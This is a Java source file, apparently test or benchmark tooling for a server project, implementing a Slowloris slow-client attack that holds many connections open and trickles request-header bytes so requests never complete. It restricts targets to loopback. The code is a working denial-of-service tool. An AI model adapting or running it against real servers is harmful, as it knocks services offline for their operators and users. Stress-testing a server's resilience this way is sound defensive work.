package dev.donjon.server.probe;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HashSet;
import java.util.Iterator;
import java.util.Set;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A slow-client attack for tests and bench scripts, on loopback only: holds {@code connections} connections open to a
 * server and feeds each a request head one byte at a time, so slowly that it never completes; a connection the server
 * closes is opened again. One thread and one selector, so thousands of connections cost the attacker almost nothing.
 * A {@link Mode#SILENT} connection sends nothing at all (the TLS handshake or first line never starts).
 */
public final class Slowloris implements AutoCloseable {

    /** What each connection sends. */
    public enum Mode {
        /** Nothing: a TCP connection that never speaks (stalls a TLS handshake or the request line). */
        SILENT,
        /** A complete request line, then header bytes, one per {@code interval}: the head never ends. */
        TRICKLE
    }

    private static final byte[] HEAD = "GET / HTTP/1.1\r\nHost: localhost\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] FILLER =
            "X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"
                    .getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress target;
    private final int connections;
    private final Mode mode;
    private final Duration interval;
    private final Selector selector;
    private final Set<SocketChannel> open = new HashSet<>();
    private final AtomicBoolean running = new AtomicBoolean(true);
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong closedByServer = new AtomicLong();
    private final AtomicLong refused = new AtomicLong();
    private final Thread thread;

    private Slowloris(InetSocketAddress target, int connections, Mode mode, Duration interval) throws IOException {
        if (!target.getAddress().isLoopbackAddress())
            throw new IllegalArgumentException("loopback targets only: " + target);
        this.target = target;
        this.connections = connections;
        this.mode = mode;
        this.interval = interval;
        this.selector = Selector.open();
        this.thread = Thread.ofPlatform().daemon().name("slowloris").start(this::run);
    }

    /** Starts the attack in the background; {@link #close} ends it and closes every connection. */
    public static Slowloris start(InetSocketAddress target, int connections, Mode mode, Duration interval)
            throws IOException {
        return new Slowloris(target, connections, mode, interval);
    }

    /** Connections established so far (reconnections included). */
    public long opened() {
        return opened.get();
    }

    /** Connections the server closed (or reset) while the attack ran. */
    public long closedByServer() {
        return closedByServer.get();
    }

    /** Connection attempts that failed (refused, timed out, out of descriptors). */
    public long refused() {
        return refused.get();
    }

    /** Connections open right now. */
    public synchronized int open() {
        return open.size();
    }

    /** Waits until {@code count} connections are open or {@code timeout} passed; returns how many are open. */
    public int awaitOpen(int count, Duration timeout) throws InterruptedException {
        long end = System.nanoTime() + timeout.toNanos();
        while (open() < count && System.nanoTime() < end) Thread.sleep(50);
        return open();
    }

    private static final class Conn {
        int sent;
        long nextAt;
    }

    private void run() {
        ByteBuffer sink = ByteBuffer.allocate(4096);
        try {
            while (running.get()) {
                long now = System.nanoTime();
                // open up to 200 connections per turn, so the selector keeps serving the ones already open
                for (int i = 0; i < 200 && size() < connections && running.get(); i++) connect(now);
                selector.select(20);
                Iterator<SelectionKey> it = selector.selectedKeys().iterator();
                while (it.hasNext()) {
                    SelectionKey key = it.next();
                    it.remove();
                    if (!key.isValid()) continue;
                    SocketChannel ch = (SocketChannel) key.channel();
                    if (key.isConnectable()) {
                        try {
                            ch.finishConnect();
                            key.interestOps(SelectionKey.OP_READ);
                            opened.incrementAndGet();
                        } catch (IOException e) {
                            refused.incrementAndGet();
                            drop(key);
                        }
                    } else if (key.isReadable()) {
                        // the server answered (a timeout's 408, an error) or closed: either way this one is done
                        sink.clear();
                        int r;
                        try {
                            r = ch.read(sink);
                        } catch (IOException e) {
                            r = -1;
                        }
                        if (r < 0) {
                            closedByServer.incrementAndGet();
                            drop(key);
                        }
                    }
                }
                if (mode == Mode.TRICKLE) trickle(now);
            }
        } catch (IOException | RuntimeException e) {
            // the attack ends; close() cleans up
        } finally {
            for (SelectionKey k : selector.keys()) drop(k);
        }
    }

    private synchronized int size() {
        return open.size();
    }

    private void connect(long now) {
        try {
            SocketChannel ch = SocketChannel.open();
            ch.configureBlocking(false);
            Conn c = new Conn();
            c.nextAt = now;
            boolean done = ch.connect(target);
            SelectionKey key = ch.register(selector, done ? SelectionKey.OP_READ : SelectionKey.OP_CONNECT, c);
            if (done) opened.incrementAndGet();
            synchronized (this) {
                open.add(ch);
            }
            key.attach(c);
        } catch (IOException e) {
            refused.incrementAndGet();
            try {
                Thread.sleep(10); // out of descriptors or refused: do not spin
            } catch (InterruptedException ie) {
                running.set(false);
            }
        }
    }

    private void trickle(long now) {
        for (SelectionKey key : selector.keys()) {
            if (!key.isValid() || (key.interestOps() & SelectionKey.OP_READ) == 0) continue;
            Conn c = (Conn) key.attachment();
            if (now < c.nextAt) continue;
            ByteBuffer b;
            if (c.sent == 0) b = ByteBuffer.wrap(HEAD);
            else b = ByteBuffer.wrap(FILLER, (c.sent - HEAD.length) % FILLER.length, 1);
            try {
                c.sent += ((SocketChannel) key.channel()).write(b);
            } catch (IOException e) {
                closedByServer.incrementAndGet();
                drop(key);
                continue;
            }
            c.nextAt = now + interval.toNanos();
        }
    }

    private void drop(SelectionKey key) {
        key.cancel();
        try {
            key.channel().close();
        } catch (IOException ignored) {
            // closing anyway
        }
        synchronized (this) {
            open.remove(key.channel());
        }
    }

    @Override
    public void close() throws InterruptedException {
        running.set(false);
        selector.wakeup();
        thread.join(10_000);
    }

    /** {@code Slowloris HOST PORT CONNECTIONS MODE INTERVAL_MS SECONDS}: attacks for SECONDS, printing progress. */
    public static void main(String[] args) throws Exception {
        InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
        try (Slowloris s = start(
                target,
                Integer.parseInt(args[2]),
                Mode.valueOf(args[3].toUpperCase(java.util.Locale.ROOT)),
                Duration.ofMillis(Long.parseLong(args[4])))) {
            long end = System.nanoTime()
                    + Duration.ofSeconds(Long.parseLong(args[5])).toNanos();
            while (System.nanoTime() < end) {
                Thread.sleep(5000);
                System.out.printf(
                        "slowloris open %d opened %d closed-by-server %d failed %d%n",
                        s.open(), s.opened(), s.closedByServer(), s.refused());
            }
        }
    }
}
